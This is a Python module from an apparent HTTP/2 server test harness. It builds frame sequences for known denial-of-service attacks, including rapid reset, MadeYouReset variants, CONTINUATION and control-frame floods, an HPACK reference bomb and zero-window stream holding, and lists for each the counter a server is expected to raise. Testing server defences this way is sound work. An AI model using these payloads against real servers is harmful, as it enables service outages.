"""The attacks of `http2_attacks.py`; `http2_attacker.py` makes them.

An attempt is what the attacker repeats: a stream and what cuts it off, a frame, a reference of
HPACK.
"""

from collections.abc import Callable
from dataclasses import dataclass

from http2_frames import (
    ACK,
    CANCEL,
    CONTINUATION,
    DATA,
    END_STREAM,
    HEADERS,
    PING,
    PRIORITY,
    PRIORITY_UPDATE,
    RESET,
    SETTINGS,
    UNKNOWN,
    WINDOW,
    frame,
    get,
    indexed,
    literal,
    number,
    post,
    setting,
)

Make = Callable[[int], bytes]
"""A stream of its own → the bytes of one attempt."""

_FIRST_DYNAMIC = 62
_REFERENCES = 1000
_CRUMBS = 200


@dataclass(frozen=True)
class Attack:
    """One kind of attack; `reasons`: one of them must be counted."""

    name: str
    text: str
    make: Make
    opening: bytes = b""
    reasons: tuple[str, ...] = ()
    weight: int = 1
    """Attempts in what `make` returns."""
    streams: int = 0
    """Streams of a connection that stay open while the next ones are made; 0 = they do not."""
    held: int = 50
    """Connections whose streams stay open at once."""
    share: int = 1
    """Attempts are divided by this, where each of them takes long."""


def _cut(after: Callable[[int], bytes]) -> Make:
    return lambda s: get(s, "/work") + after(s)


def _bomb(s: int) -> bytes:
    big = literal("x-bomb", "b" * 3900, kept=True)
    return get(s, "/", big + indexed(_FIRST_DYNAMIC) * _REFERENCES)


def _crumbs(s: int) -> bytes:
    crumb = literal("cookie", "a=b", kept=True)
    return get(s, "/", crumb + indexed(_FIRST_DYNAMIC) * _CRUMBS)


_RESETS = ("reset-flood", "work")

ATTACKS = (
    Attack(
        "rapid-reset",
        "rapid reset",
        _cut(lambda s: frame(RESET, 0, s, number(CANCEL))),
        reasons=_RESETS,
    ),
    Attack(
        "made-zero",
        "MadeYouReset: WINDOW_UPDATE of 0",
        _cut(lambda s: frame(WINDOW, 0, s, number(0))),
        reasons=_RESETS,
    ),
    Attack(
        "made-overflow",
        "MadeYouReset: a window above its end",
        _cut(lambda s: frame(WINDOW, 0, s, number(0x7FFF_FFFF))),
        reasons=_RESETS,
    ),
    Attack(
        "made-headers",
        "MadeYouReset: HEADERS after the end",
        _cut(lambda s: get(s, "/work")),
        reasons=_RESETS,
    ),
    Attack(
        "made-data",
        "MadeYouReset: DATA after the end",
        _cut(lambda s: frame(DATA, 0, s, b"x" * 300)),
        reasons=_RESETS,
    ),
    Attack(
        "made-length",
        "MadeYouReset: PRIORITY of a wrong length",
        _cut(lambda s: frame(PRIORITY, 0, s, b"\0" * 4)),
        reasons=_RESETS,
    ),
    Attack(
        "made-circle",
        "MadeYouReset: a stream that depends on itself",
        _cut(lambda s: frame(PRIORITY, 0, s, number(s) + b"\0")),
        reasons=(*_RESETS, "priority-flood"),
    ),
    Attack(
        "continuation",
        "CONTINUATION without an end",
        lambda _: frame(CONTINUATION, 0, 1, b"\0"),
        frame(HEADERS, END_STREAM, 1),
        ("continuation-flood",),
    ),
    Attack("ping", "PING", lambda s: frame(PING, 0, 0, number(s) * 2), reasons=("ping-flood",)),
    Attack("settings", "SETTINGS", lambda _: setting(4, 65_535), reasons=("settings-flood",)),
    Attack(
        "settings-ack",
        "acknowledgements of SETTINGS",
        lambda _: frame(SETTINGS, ACK, 0),
        reasons=("settings-flood",),
    ),
    Attack(
        "priority",
        "PRIORITY",
        lambda s: frame(PRIORITY, 0, s, number(0) + b"\x0f"),
        reasons=("priority-flood",),
    ),
    Attack(
        "priority-update",
        "PRIORITY_UPDATE",
        lambda s: frame(PRIORITY_UPDATE, 0, 0, number(s) + b"u=1"),
        reasons=("priority-flood",),
    ),
    Attack(
        "unknown",
        "frames of an unknown type",
        lambda _: frame(UNKNOWN, 0, 0),
        reasons=("frame-flood", "work"),
    ),
    Attack(
        "late-reset",
        "RST_STREAM for a stream that is over",
        lambda _: frame(RESET, 0, 1, number(CANCEL)),
        get(1, "/"),
        ("frame-flood", "work"),
    ),
    Attack(
        "empty-data",
        "empty DATA",
        lambda _: frame(DATA, 0, 1),
        post(1, "/work"),
        ("empty-data-flood",),
    ),
    Attack(
        "tiny-data",
        "DATA of one byte",
        lambda _: frame(DATA, 0, 1, b"x"),
        post(1, "/work"),
        ("small-data-flood",),
    ),
    Attack(
        "window-drip",
        "WINDOW_UPDATE of 1 for the connection",
        lambda _: frame(WINDOW, 0, 0, number(1)),
        reasons=("window-update-flood",),
    ),
    Attack(
        "hpack-bomb",
        "one-byte references to a large field",
        _bomb,
        reasons=("head-size",),
        weight=_REFERENCES,
    ),
    Attack(
        "crumbs",
        "one-byte references to a crumb of a cookie",
        _crumbs,
        reasons=("head-size", "work"),
        weight=_CRUMBS,
    ),
    Attack(
        "busy",
        "requests that are never answered, as many as are let in",
        lambda s: get(s, "/work"),
        streams=128,
        held=1,
        share=5,
    ),
    Attack(
        "zero-window",
        "answers that a window of 0 holds back",
        lambda s: get(s, "/big"),
        setting(4, 0),
        streams=100,
        share=5,
    ),
    Attack(
        "one-byte-window",
        "an answer that is taken byte by byte",
        lambda _: frame(WINDOW, 0, 1, number(1)),
        setting(4, 0) + get(1, "/big"),
        share=5,
    ),
)
